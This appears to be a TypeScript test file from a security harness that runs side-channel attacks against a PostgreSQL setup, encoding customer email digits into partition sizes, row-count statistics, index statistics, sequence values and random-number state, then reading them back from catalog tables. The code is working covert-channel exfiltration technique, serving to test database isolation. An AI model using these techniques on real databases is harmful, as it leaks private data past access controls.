/** What a statement leaves behind without giving it back: how large relations have become, how far a sequence and the generator of random numbers have gone on. */

import { attackSuite, type Attacker, type Technique } from '../../support/attack.ts';
import { rowsOf, type WireClient } from '../../support/wire-client.ts';

export const sizes = attackSuite('sizes');

const DIGIT = `('x' || substr(right(c.email, 8), 1 + 2 * quarter, 2))::bit(8)::int`;

/** Makes a partition for each digit of each customer. */
async function partition({ own, customers }: Attacker, client: WireClient): Promise<void> {
  const keys = Array.from({ length: 4 * customers }, (_, i) => i + 4);
  for (let at = 0; at < keys.length; at += 120) {
    await client.query(keys.slice(at, at + 120).map((k) => `CREATE TABLE public.${own}_${k} PARTITION OF public.${own} FOR VALUES IN (${k})`).join(';'), 60_000);
  }
}

function spell(attacker: Attacker, digits: ReadonlyMap<number, number>): void {
  for (let id = 1; id <= attacker.customers; id++) {
    attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${[0, 1, 2, 3].map((quarter) => (digits.get(4 * id + quarter) ?? 0).toString(16).padStart(2, '0')).join('')} `;
  }
}

const FILL = ({ own, customers }: Attacker): string => `INSERT INTO public.${own} SELECT 4 * c.id + quarter, repeat('x', 5000) FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}`;

/** Fills a page for each row; `look` gives names and how many pages. */
const grown = (look: (own: string) => string): Technique => async (attacker) => {
  const { own } = attacker;
  const client = await attacker.connect();
  await client.query(`CREATE TABLE public.${own} (k int, pad text) PARTITION BY LIST (k)`);
  // Partitions take it over.
  await client.query(`ALTER TABLE public.${own} ALTER pad SET STORAGE PLAIN`);
  await partition(attacker, client);
  await client.query(FILL(attacker), 80_000);
  spell(attacker, new Map(rowsOf(await client.query(look(own), 30_000)).map(([name, pages]) => [Number(/\d+$/.exec(String(name))?.[0]), Number(String(pages))])));
};

/** Partitions with 255 small rows each, numbered; `change` makes their sizes say digits. */
const changed = (change: (attacker: Attacker) => readonly string[], look: (own: string) => string): Technique => async (attacker) => {
  const { own, customers } = attacker;
  const client = await attacker.connect();
  await client.query(`CREATE TABLE public.${own} (k int, n int, pad text) PARTITION BY LIST (k)`);
  await partition(attacker, client);
  await client.query(`INSERT INTO public.${own} SELECT k, n FROM generate_series(4, ${4 * customers + 3}) k, generate_series(1, 255) n`, 60_000);
  for (const sql of change(attacker)) await client.query(sql, 80_000);
  spell(attacker, new Map(rowsOf(await client.query(look(own), 30_000)).map(([name, size]) => [Number(/_(\d+)(_|$)/.exec(String(name).replace(own, ''))?.[1]), Number(String(size))])));
};
const digitOf = (name: string): string => `CREATE FUNCTION ${name}(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN (SELECT ('x' || substr(right(c.email, 8), 1 + 2 * (k % 4), 2))::bit(8)::int FROM crm.customers c WHERE c.id = k / 4); END $$`;

const of = (own: string): string => `FROM pg_class WHERE relkind = 'r' AND relname LIKE '${own}\\_%'`;

sizes.group('of copies', 'side doors', () => {
  sizes.attack('pg_relation_size', grown((own) => `SELECT relname, pg_relation_size(oid) / 8192 ${of(own)}`), 'lax');
});

sizes.group('of what is changed', 'side doors', () => {
  sizes.attack('rows that are left after DELETE', changed(({ own, customers }) => [
    `DELETE FROM public.${own} o USING crm.customers c, generate_series(0, 3) quarter WHERE o.k = 4 * c.id + quarter AND o.n > ${DIGIT} AND c.id <= ${customers}`, `VACUUM public.${own}`,
  ], (own) => `SELECT relname, reltuples ${of(own)}`), 'lax');
  sizes.attack('an index whose condition asks a function', changed(({ own }) => [
    digitOf(`public.${own}_digit_of`), `CREATE INDEX ${own}_i ON public.${own} (n) WHERE n <= public.${own}_digit_of(k)`, `ANALYZE public.${own}`,
  ], (own) => `SELECT c.relname, i.reltuples FROM pg_class c JOIN pg_index x ON x.indrelid = c.oid JOIN pg_class i ON i.oid = x.indexrelid WHERE c.relname LIKE '${own}\\_%'`), 'lax');
});

const SEED = 'SELECT setseed(0.5)';
const STEPS = 65_536;

/**
 * Three numbers of sixteen bits a statement: how many rows it counted, how far a sequence went on, how far the generator of random numbers did. Two statements spell
 * three customers. `sequence`, `random`: calls that move them.
 */
const moved = (sequence: string, random: string, make: readonly string[] = []): Technique => async (attacker) => {
  const { own, bed } = attacker;
  const client = await attacker.connect();
  await client.query(`CREATE SEQUENCE public.${own}`);
  for (const sql of make) await client.query(sql.replaceAll('OWN', own));
  await bed.admin.query(SEED);
  const { rows } = await bed.admin.query<{ random: number }>(`SELECT random() FROM generate_series(1, ${STEPS})`);
  const places = new Map(rows.map(({ random: value }, i) => [value, i]));
  const half = (side: 'hi' | 'lo'): string => `('x' || substr(right(c.email, 8), ${side === 'hi' ? 1 : 5}, 4))::bit(16)::int`;
  let before = 0;
  const ask = async (counted: readonly [number, 'hi' | 'lo'], drawn: readonly [number, 'hi' | 'lo'], thrown: readonly [number, 'hi' | 'lo']): Promise<readonly string[]> => {
    await client.query(SEED);
    const parts = [counted, drawn, thrown].map(([id, side], kind) => `(${id}, ${kind}, ${half(side)})`).join(', ');
    const answer = await client.query(`SELECT count(CASE kind WHEN 0 THEN 1 WHEN 1 THEN CASE WHEN ${sequence.replaceAll('OWN', own)} < 0 THEN 1 END WHEN 2 THEN CASE WHEN ${random.replaceAll('OWN', own)} < 0 THEN 1 END END) FROM crm.customers c, LATERAL (VALUES ${parts}) v (id, kind, n), generate_series(1, v.n) WHERE v.id = c.id AND c.id IN (${counted[0]}, ${drawn[0]}, ${thrown[0]})`, 20_000);
    const last = Number(String(rowsOf(await client.query(`SELECT last_value FROM public.${own}`))[0]?.[0] ?? 0));
    const value = Number(String(rowsOf(await client.query('SELECT random()'))[0]?.[0] ?? NaN));
    const numbers = [Number(String(rowsOf(answer)[0]?.[0] ?? 0)), last - before, places.get(value) ?? 0];
    before = last;
    return numbers.map((each) => Math.max(0, each).toString(16).padStart(4, '0'));
  };
  await client.query(`SELECT nextval('public.${own}')`);
  before = 1;
  for (let id = 1; id <= 1.5 * attacker.customers; id += 3) {
    const [a1, a2, b1] = await ask([id, 'hi'], [id, 'lo'], [id + 1, 'hi']);
    const [b2, c1, c2] = await ask([id + 1, 'lo'], [id + 2, 'hi'], [id + 2, 'lo']);
    for (const [at, hash] of [`${a1}${a2}`, `${b1}${b2}`, `${c1}${c2}`].entries()) attacker.decoded += `cnry-${String(id + at).padStart(6, '0')}-${hash} `;
  }
};

sizes.group('of what goes on', 'side doors', () => {
  sizes.attack('a sequence and random(), by functions in PL/pgSQL', moved('pg_temp.next()', 'pg_temp.throw()', [
    "CREATE FUNCTION pg_temp.next() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN nextval('public.OWN'); END $$", 'CREATE FUNCTION pg_temp.throw() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN floor(random()); END $$',
  ]), 'lax');
});
